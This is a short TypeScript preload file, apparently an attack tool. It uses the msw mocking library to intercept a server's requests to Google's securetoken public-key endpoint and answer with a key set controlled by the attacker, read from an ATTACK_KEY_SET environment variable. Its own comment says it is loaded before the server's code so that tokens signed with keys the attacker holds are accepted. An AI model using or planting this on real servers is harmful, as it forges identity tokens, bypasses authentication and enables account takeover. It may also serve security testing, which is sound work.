/** Loaded into a server before its own code: answers Google's key set with the keys that the attack knows the secrets of. */
import { http, HttpResponse } from 'msw';
import { setupServer } from 'msw/node';

const address = 'https://www.googleapis.com/service_accounts/v1/jwk/securetoken@system.gserviceaccount.com';

setupServer(
  http.get(address, () =>
    HttpResponse.text(process.env['ATTACK_KEY_SET'], { headers: { 'content-type': 'application/json' } }),
  ),
).listen({ onUnhandledRequest: 'bypass' });
